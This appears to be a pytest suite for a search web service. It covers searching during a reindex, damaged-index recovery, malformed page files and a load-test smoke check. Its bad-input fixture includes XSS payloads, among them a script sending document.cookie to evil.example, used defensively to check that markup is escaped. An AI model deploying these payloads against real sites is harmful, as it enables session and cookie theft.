"""Never lose, never crash: real servers and real reindex runs, in subprocesses.

- searches keep being answered, each from one whole generation, while a reindex runs, and the
  server moves to the new generation by itself;
- a missing or damaged index answers 503 saying to run ``make reindex`` (one log line, no
  traceback), and ``reindex`` rebuilds a damaged index from scratch;
- a batch of bad page files: each one indexed safely or skipped with its reason, the rest indexed,
  markup in pages shown as text;
- ``python -m search.loadtest`` runs (smoke test).
"""

from __future__ import annotations

import contextlib
import json
import logging
import random
import re
import shutil
import subprocess
import sys
import threading
import time
from collections import Counter
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest
from helpers import Html, build_test_index, web_server
from pagegen import generated_pages

from search.errors import IndexMissingError
from search.index import CURRENT, reindex
from search.ingest import MAX_PAGE_BYTES, MAX_TITLE_CHARS, Document, read_jsonl
from search.service import SearchRequest
from search.tools.loadtest import request_mix
from web import create_app

ROOT = Path(__file__).resolve().parents[1]
SEEDS = ROOT / "index_data" / "documents"
NEW_WORD = "quetzalcoatl"


# -- helpers ----------------------------------------------------------------------------------


@pytest.fixture
def servers():
    """Starts ``python -m web`` on an index (`helpers.web_server`); each is stopped after the test."""
    with contextlib.ExitStack() as stack:
        yield lambda index, log: stack.enter_context(web_server(index, log))


def run_search_cli(*args: str, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "search", *args], capture_output=True, text=True, cwd=ROOT, timeout=timeout
    )


# -- searching while a reindex runs ---------------------------------------------------------


def test_searches_are_answered_from_one_whole_generation_while_a_reindex_runs(tmp_path: Path, servers) -> None:
    docs, index = tmp_path / "documents", tmp_path / "index"
    pages = generated_pages(docs, seed=11, count=2000, words=50)
    assert reindex(docs, index, meaning=False).added == 2000  # words alone: 2,000 pages encode in 40 s
    server = servers(index, tmp_path / "web.log")
    changed = pages[::4]
    for path in changed:  # 500 changed pages and one new: a run of a few seconds
        with path.open("a", encoding="utf-8") as handle:
            handle.write(f"Le {NEW_WORD} est arrivé.\n")
    (docs / "zz_new.txt").write_text(
        f"Ouverture d'un centre à Ouagadougou\n\nLe centre {NEW_WORD} accueille les migrants de retour.\n",
        encoding="utf-8",
    )
    server.wait_ready()
    status, body = server.get("/healthz")
    assert status == 200, body
    before = json.loads(body)
    assert before["documents"] == 2000

    expected_totals = {0, len(changed) + 1}  # the old generation has no page with the word, the new one 501
    answers: Counter = Counter()
    totals: Counter = Counter()
    problems: list[str] = []
    done = threading.Event()

    def hammer(n: int) -> None:
        paths = [
            "/api/search?" + urlencode({"q": NEW_WORD, "per_page": 5}),
            "/api/search?" + urlencode({"q": pages[n].read_text("utf-8").split()[0], "sort": "newest"}),
            "/?" + urlencode({"q": f"{NEW_WORD} centre"}),
        ]
        i = 0
        while not done.is_set():
            path = paths[i % len(paths)]
            i += 1
            try:
                status, body = server.get(path)
            except OSError as exc:
                problems.append(f"{path}: {exc!r}")
                continue
            answers[status] += 1
            if status != 200:
                problems.append(f"{path}: {status} {body[:300]}")
            elif path.startswith("/api/search?q=" + NEW_WORD):
                totals[json.loads(body)["total"]] += 1

    threads = [threading.Thread(target=hammer, args=(n,)) for n in range(3)]
    for thread in threads:
        thread.start()
    try:
        started = time.monotonic()
        result = run_search_cli("reindex", "--documents", str(docs), "--index", str(index), "--no-meaning")
        reindex_s = time.monotonic() - started
        assert result.returncode == 0, result.stderr
        assert "1 added, 500 updated" in result.stdout
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:  # the server checks CURRENT at most once a second
            after = json.loads(server.get("/healthz")[1])
            if after["generation"] != before["generation"]:
                break
            time.sleep(0.2)
        time.sleep(0.5)  # a few more answers from the new generation
    finally:
        done.set()
        for thread in threads:
            thread.join(60)
    assert not problems, problems[:5]
    assert set(answers) == {200} and sum(answers.values()) >= 20, answers
    assert set(totals) <= expected_totals and set(totals) == expected_totals, totals  # old, then new; nothing between
    assert after["generation"] == (index / CURRENT).read_text("utf-8").strip() != before["generation"]
    assert after["documents"] == 2001
    found = json.loads(server.get("/api/search?" + urlencode({"q": "ouagadougou"}))[1])
    assert [hit["id"] for hit in found["hits"]] == ["zz_new"]
    assert server.get("/documents/zz_new")[0] == 200
    assert "Traceback" not in server.log()
    print(f"reindex under load: {reindex_s:.1f} s, answers {dict(answers)}, totals seen {dict(totals)}")


# -- missing and damaged indexes --------------------------------------------------------------


def _truncate(generation: Path) -> None:
    for path in generation.iterdir():
        if path.suffix in (".toc", ".seg"):
            path.write_bytes(path.read_bytes()[: path.stat().st_size // 3])


def _garbage(generation: Path) -> None:
    rng = random.Random(5)
    for path in generation.iterdir():
        if path.suffix in (".toc", ".seg"):
            path.write_bytes(rng.randbytes(path.stat().st_size))


def _truncate_segments_only(generation: Path) -> None:
    for path in generation.glob("*.seg"):
        path.write_bytes(path.read_bytes()[:100])


DAMAGE = {
    "CURRENT names a missing folder": lambda index: (index / CURRENT).write_text("gen-000099", encoding="utf-8"),
    "segment and TOC files truncated": lambda index: _truncate(index / (index / CURRENT).read_text("utf-8")),
    "segment and TOC files garbage": lambda index: _garbage(index / (index / CURRENT).read_text("utf-8")),
    "segment files truncated": lambda index: _truncate_segments_only(index / (index / CURRENT).read_text("utf-8")),
}


def assert_says_run_make_reindex(status: int, body: str, where: str) -> None:
    assert status == 503, (where, status, body[:500])
    assert "make reindex" in body, where
    assert "Traceback" not in body and 'File "' not in body, where


@pytest.mark.parametrize("damage", list(DAMAGE))
def test_a_damaged_index_answers_503_until_reindex_rebuilds_it(tmp_path: Path, damage: str) -> None:
    docs, index = tmp_path / "documents", tmp_path / "index"
    shutil.copytree(SEEDS, docs)
    reindex(docs, index, meaning=False)
    DAMAGE[damage](index)
    client = create_app({"INDEX_DIR": str(index), "TESTING": True}).test_client()
    for url in ("/healthz", "/api/search?q=migrants", "/", "/?q=migrants"):
        response = client.get(url)
        assert_says_run_make_reindex(response.status_code, response.get_data(as_text=True), url)
    assert client.get("/healthz").get_json()["error"]["code"] == "index_missing"

    report = reindex(docs, index, meaning=False)  # what `make reindex` runs (words alone)
    assert report.added == 5 and report.generation == (index / CURRENT).read_text("utf-8").strip()
    assert client.get("/healthz").get_json()["documents"] == 5  # the same app, no restart
    assert client.get("/api/search?q=pollution+bichkek").get_json()["total"] >= 1


def test_the_server_starts_on_a_missing_or_damaged_index_and_says_what_to_do(tmp_path: Path, servers) -> None:
    docs = tmp_path / "documents"
    shutil.copytree(SEEDS, docs)
    missing, damaged = tmp_path / "missing", tmp_path / "damaged"
    reindex(docs, damaged, meaning=False)
    DAMAGE["segment and TOC files truncated"](damaged)
    running = {
        name: servers(folder, tmp_path / f"{name}.log") for name, folder in (("missing", missing), ("damaged", damaged))
    }
    for name, server in running.items():
        server.wait_ready()
        for path in ("/healthz", "/api/search?q=migrants", "/"):
            status, body = server.get(path)
            assert_says_run_make_reindex(status, body, f"{name} {path}")
        log = server.log()
        assert "Traceback" not in log, log
        told = [line for line in log.splitlines() if "make reindex" in line]
        assert len(told) == 1, log  # said once, at startup, not once per request
        assert told[0].startswith("WARNING") and str(missing if name == "missing" else damaged) in told[0]

    result = run_search_cli("reindex", "--documents", str(docs), "--index", str(damaged), "--no-meaning")
    assert result.returncode == 0, result.stderr
    assert "5 added" in result.stdout  # rebuilt from scratch
    status, body = running["damaged"].get("/healthz")
    assert status == 200 and json.loads(body)["documents"] == 5  # picked up without a restart


# -- bad page files in one batch --------------------------------------------------------------

SCRIPT_TITLE = "Alerte <script>alert('titre')</script> <b>Niamey</b> migrants"
SCRIPT_BODY = (
    "Les migrants de Niamey <script>document.location='https://evil.example/'+document.cookie</script> "
    'reçoivent une aide "><img src=x onerror=alert(1)> et <a href="javascript:alert(2)">un lien</a>.'
)


def test_a_batch_of_bad_page_files_is_indexed_safely_or_skipped_with_a_reason(tmp_path: Path) -> None:
    """Cases test_reindex.py does not already run through `reindex`: each safe, the rest indexed."""
    docs, index = tmp_path / "documents", tmp_path / "index"
    shutil.copytree(SEEDS, docs)
    bad = docs / "batch"
    bad.mkdir()
    (bad / "invalid_utf8.txt").write_bytes(b"Titre\n\x81\x8d\x8f\x90\x9d\n")
    (bad / "enormous.txt").write_bytes(b"Migrants " * (MAX_PAGE_BYTES // 9 + 1))
    (bad / "blank_lines.txt").write_text("\n" * 10_000, encoding="utf-8")
    (bad / "spaced_out.txt").write_text(
        "Retour volontaire à Tahoua\n" + "\n" * 10_000 + "Des migrants rentrent à Tahoua avec l'aide de l'OIM.\n",
        encoding="utf-8",
    )
    (bad / "long_title.txt").write_text(
        "Tillabéri " + "migration " * 499 + "\n\nTexte de la page sur Tillabéri.\n", encoding="utf-8"
    )
    (bad / "script.txt").write_text(f"{SCRIPT_TITLE}\n\n{SCRIPT_BODY}\n", encoding="utf-8")
    (bad / "records.jsonl").write_text(
        json.dumps({"id": "jl-script", "title": SCRIPT_TITLE, "text": SCRIPT_BODY}) + "\n"
        '{"id": "jl-broken", "title": "coupé\n'
        + json.dumps({"id": "jl-year", "title": "Zinder", "text": "Zinder", "year": "deux mille"})
        + "\n[1, 2]\n"
        + json.dumps({"id": "jl-ok", "title": "Rapport sur Agadez", "text": "Les migrants à Agadez."})
        + "\n",
        encoding="utf-8",
    )
    result = run_search_cli("reindex", "--documents", str(docs), "--index", str(index), "--no-meaning")
    assert result.returncode == 0, result.stderr
    skipped_block = result.stdout.split("skipped:\n", 1)[1].split("coverage over", 1)[0]
    skipped = dict(re.findall(r"^  (\S+): (.+)$", skipped_block, re.M))
    jsonl = bad / "records.jsonl"
    assert set(skipped) == {
        str(bad / "invalid_utf8.txt"),
        str(bad / "enormous.txt"),
        str(bad / "blank_lines.txt"),
        f"{jsonl}:2",
        f"{jsonl}:3",
        f"{jsonl}:4",
    }, result.stdout
    assert "neither UTF-8 nor cp1252" in skipped[str(bad / "invalid_utf8.txt")]
    assert "too large" in skipped[str(bad / "enormous.txt")]
    assert "empty" in skipped[str(bad / "blank_lines.txt")]
    assert "year" in skipped[f"{jsonl}:3"] and "object" in skipped[f"{jsonl}:4"]
    assert "10 added" in result.stdout, result.stdout  # the 5 seeds and 5 pages or records of the batch

    client = create_app({"INDEX_DIR": str(index), "TESTING": True}).test_client()
    assert client.get("/api/search?q=tahoua").get_json()["hits"][0]["id"] == "spaced_out"
    assert client.get("/api/search?q=agadez").get_json()["hits"][0]["id"] == "jl-ok"
    long_title = client.get("/api/documents/long_title").get_json()
    assert len(long_title["title"]) <= MAX_TITLE_CHARS and long_title["title"].startswith("Tillabéri migration")
    assert client.get("/api/search?q=tillaberi").get_json()["hits"][0]["id"] == "long_title"
    page = client.get("/?q=tillaberi").get_data(as_text=True)
    assert page.count("migration migration") < 200  # the page shows the cut title, not 5,000 characters

    for doc_id in ("script", "jl-script"):
        record = client.get(f"/api/documents/{doc_id}").get_json()
        assert record["title"] == SCRIPT_TITLE  # kept as text, verbatim
        data = client.get("/api/search", query_string={"q": "alerte script niamey img", "per_page": 20}).get_json()
        hit = next(h for h in data["hits"] if h["id"] == doc_id)
        for name in ("title_html", "snippet_html"):
            assert {tag for tag, _ in Html(hit[name]).tags} <= {"mark"}, hit[name]
        assert "&lt;" in hit["title_html"] + hit["snippet_html"]
        for url in ("/?" + urlencode({"q": "alerte script niamey"}), f"/documents/{quote(doc_id)}"):
            text = client.get(url).get_data(as_text=True)
            tags = Html(text).tags
            assert all(attrs.get("src", "").startswith("/static/") for tag, attrs in tags if tag == "script"), url
            assert not [tag for tag, _ in tags if tag in ("img", "b")], url
            assert not [a for _, attrs in tags for a in attrs if a.startswith("on")], url
            assert not any(attrs.get("href", "").startswith("javascript:") for _, attrs in tags), url
            assert re.search(r"&lt;(<mark>)?script(</mark>)?&gt;", text), url  # shown as the text it is


def test_a_malformed_json_lines_line_is_reported_with_file_and_line(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    path = tmp_path / "feed.jsonl"
    path.write_text('{"id": "a", "title": "Un"}\n\n{oops\n{"id": "b", "title": "Deux"}\n"texte"\n', encoding="utf-8")
    with caplog.at_level(logging.WARNING):
        ids = [doc.id for doc in read_jsonl(path)]
    assert ids == ["a", "b"]
    messages = [record.getMessage() for record in caplog.records]
    assert len(messages) == 2
    assert messages[0].startswith(f"{path}:3: ") and messages[1].startswith(f"{path}:5: ")


# -- load test ------------------------------------------------------------------------------


def test_request_mix_is_deterministic_and_covers_pages_filters_and_html() -> None:
    answer = {
        "hits": [{"title": "Santé des migrants au Kirghizistan", "snippet_html": "<mark>Retour</mark> volontaire"}],
        "facets": {"country": [{"value": "KG"}], "year": [{"value": "2021"}], "status": [{"value": "Actif"}]},
    }
    mix = request_mix(answer, size=1000)
    assert mix == request_mix(answer, size=1000)
    html = sum(path.startswith("/?") for path in mix)
    assert 120 < html < 280  # about one in five
    joined = "\n".join(mix)
    for part in ("country=KG", "year=2021", "status=Actif", "sort=newest", "sort=budget", "page=2", "page=3"):
        assert part in joined, part
    assert "sant%C3%A9" in joined and "q=sante" in joined  # with and without accents


def test_loadtest_smoke(seed_index: Path) -> None:
    started = time.monotonic()
    result = subprocess.run(
        [sys.executable, "-m", "search.tools.loadtest", "--clients", "2", "--seconds", "2", "--index", str(seed_index)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert re.search(r"requests/s", result.stdout) and "errors: 0" in result.stdout
    assert re.search(r"p50 [\d.]+ ms, p95 [\d.]+ ms, p99 [\d.]+ ms", result.stdout)
    assert re.search(r"status codes: 200: \d+", result.stdout)
    assert time.monotonic() - started < 60


def test_an_index_from_another_version_is_refused_with_the_command_to_run(tmp_path: Path) -> None:
    from search.index import current_generation
    from search.index.generations import MANIFEST
    from search.service import SearchService

    build_test_index([Document(id="a", title="Santé", body="Guinée")], tmp_path)
    manifest = current_generation(tmp_path).path / MANIFEST
    data = json.loads(manifest.read_text("utf-8"))
    data["schema"] = 1
    manifest.write_text(json.dumps(data), encoding="utf-8")
    with pytest.raises(IndexMissingError, match="make reindex"):
        SearchService(tmp_path).search(SearchRequest(q="santé"))
